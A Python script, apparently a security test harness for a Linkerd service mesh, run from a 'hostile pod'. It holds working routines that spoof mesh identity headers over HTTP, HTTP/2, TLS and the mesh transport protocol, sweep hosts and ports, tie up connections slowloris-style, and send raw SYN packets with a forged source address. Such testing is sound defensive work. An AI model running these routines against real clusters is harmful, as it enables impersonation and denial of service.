#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a hostile pod tries. Runs inside it: attacks.py NAME JSON-ARGUMENTS; prints one JSON document."""
import json
import os
import random
import socket
import ssl
import struct
import sys
import threading
import time

SO_MARK = 36
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def dial(host, port, timeout=3.0, mark=None, bind=None):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    connection = socket.socket(family)
    connection.settimeout(timeout)
    if mark is not None:
        connection.setsockopt(socket.SOL_SOCKET, SO_MARK, struct.pack("=I", mark))
    if bind is not None:
        connection.bind(bind)
    connection.connect((host, port))
    return connection


def converse(connection, request):
    """Sends and reads until the other side ends, or falls silent for the socket's time-out."""
    answer = b""
    try:
        connection.sendall(request)
        while len(answer) < 65536 and (chunk := connection.recv(65536)):
            answer += chunk
    except OSError as error:
        answer += f" [{type(error).__name__}]".encode()
    finally:
        connection.close()
    return answer.decode(errors="replace")


def get(host="pod", path="/", method="GET", more=()):
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close", *more]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def request(given):
    """An HTTP request, perhaps as another user, with a mark, with headers that only the mesh may set."""
    if given.get("uid"):
        os.setgid(given["uid"])
        os.setuid(given["uid"])
    try:
        connection = dial(given["host"], given["port"], mark=given.get("mark"), timeout=given.get("timeout", 5))
    except OSError as error:
        return {"answer": f"[{type(error).__name__} {error}]"}
    return {"answer": converse(connection, get(more=given.get("headers", ()), path=given.get("path", "/"),
                                               method=given.get("method", "GET")))}


def sweep(given):
    """Every address with every port: an HTTP request that pretends to be somebody, and what came of it."""
    out = {}
    lock = threading.Lock()

    def one(host, port):
        try:
            answer = converse(dial(host, port, 2), get(more=given["headers"], path=given.get("path", "/"),
                                                       method=given.get("method", "GET")))
        except OSError as error:
            answer = f"[{type(error).__name__}]"
        with lock:
            out[f"{host} {port}"] = answer[:400]

    threads = [threading.Thread(target=one, args=(host, port)) for host in given["hosts"] for port in given["ports"]]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return out


def loops(given):
    """Many connections to the pod's own listeners, kept open as long as they live."""
    kept, refused = [], 0
    for _ in range(given["count"]):
        for host in given["hosts"]:
            for port in given["ports"]:
                try:
                    connection = dial(host, port, 2)
                    connection.sendall(get(host=f"{host}:{port}"))
                    kept.append(connection)
                except OSError:
                    refused += 1
    time.sleep(given["seconds"])
    answered = 0
    for connection in kept:
        try:
            connection.setblocking(False)
            answered += b"APP-REACHED" in connection.recv(65536)
        except OSError:
            pass
        connection.close()
    return {"opened": len(kept), "refused": refused, "answered": answered}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def field(name, value):
    """HPACK: a literal, never indexed, without Huffman (RFC 7541 6.2.3)."""
    name, value = name.encode(), value.encode()
    return b"\x10" + bytes((len(name),)) + name + bytes((len(value),)) + value


def h2_request(fields):
    return PREFACE + frame(4, 0, 0, b"") + frame(1, 4, 1, b"".join(field(*pair) for pair in fields))


def tls(given):
    """TLS to a meshed pod's port with a certificate nobody signed, or none, then what a proxy would say."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    if given["alpn"]:
        context.set_alpn_protocols([given["alpn"]])
    if given.get("certificate"):
        context.load_cert_chain(given["certificate"], given["key"])
    headers = [("l5d-client-id", given["pretend"])]
    target = f"{given['host']}:{given['app_port']}"
    says = {
        "connect": h2_request([(":method", "CONNECT"), (":authority", target)] + headers) +
        frame(0, 0, 1, get(more=[f"l5d-client-id: {given['pretend']}"])),
        "get": h2_request([(":method", "GET"), (":scheme", "http"), (":authority", target), (":path", "/"),
                           ("l5d-orig-proto", "HTTP/1.1")] + headers),
        "transport": b"transport.l5d.io/v1\r\n\r\n" + struct.pack(">I", 3) + b"\x08" + varint(given["app_port"]) +
        get(more=[f"l5d-client-id: {given['pretend']}"]),
        "plain": get(more=[f"l5d-client-id: {given['pretend']}"]),
    }[given["say"]]
    try:
        raw = dial(given["host"], given["port"], 4)
        wrapped = context.wrap_socket(raw, server_hostname=given["sni"])
    except OSError as error:
        return {"handshake": f"{type(error).__name__} {error}", "answer": ""}
    return {"handshake": "done " + str(wrapped.selected_alpn_protocol()), "answer": converse(wrapped, says)}


def varint(number):
    out = b""
    while number > 127:
        out += bytes((number & 127 | 128,))
        number >>= 7
    return out + bytes((number,))


def slow(given):
    """Connections that never finish anything: half a ClientHello, half a request, half a preface, garbage, nothing."""
    begins = [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(20), b"GET / HTTP/1.1\r\nHost: x\r\nx-a: ", PREFACE[:9],
              b"", b"transport.l5d.io/v1\r\n", PREFACE + b"\xff" * 40, os.urandom(4096),
              PREFACE + frame(4, 0, 0, b"") + frame(1, 0, 1, field("a", "b"))]
    kept, refused = [], 0
    end = time.monotonic() + given["seconds"]
    for number in range(given["count"]):
        try:
            connection = dial(given["host"], given["ports"][number % len(given["ports"])], 3)
            connection.sendall(begins[number % len(begins)])
            kept.append(connection)
        except OSError:
            refused += 1
    with open(given["ready"], "w", encoding="ascii"):
        pass
    while time.monotonic() < end and not os.path.exists(given["stop"]):
        for connection in random.sample(kept, min(50, len(kept))):
            try:
                connection.send(b"x")
            except OSError:
                pass
        time.sleep(0.1)
    return {"opened": len(kept), "refused": refused}


def raw_syn(given):
    """A TCP segment of our own making with another pod's source address (CAP_NET_RAW)."""
    source, destination = socket.inet_aton(given["source"]), socket.inet_aton(given["host"])
    packet = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(20):
        header = struct.pack(">HHIIBBHHH", 20000 + number, given["port"], number, 0, 5 << 4, 2, 64240, 0, 0)
        total = sum(struct.unpack(">10H", header)) + sum(struct.unpack(">4H", source + destination)) + 6 + len(header)
        while total >> 16:
            total = (total & 0xffff) + (total >> 16)
        header = header[:16] + struct.pack(">H", ~total & 0xffff) + header[18:]
        ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, number, 0, 64, 6, 0, source, destination)
        packet.sendto(ip + header, (given["host"], 0))
    return {"sent": 20}


if __name__ == "__main__":
    print(json.dumps({"request": request, "sweep": sweep, "loops": loops, "tls": tls, "slow": slow,
                      "raw_syn": raw_syn}[sys.argv[1]](json.loads(sys.argv[2]))), flush=True)
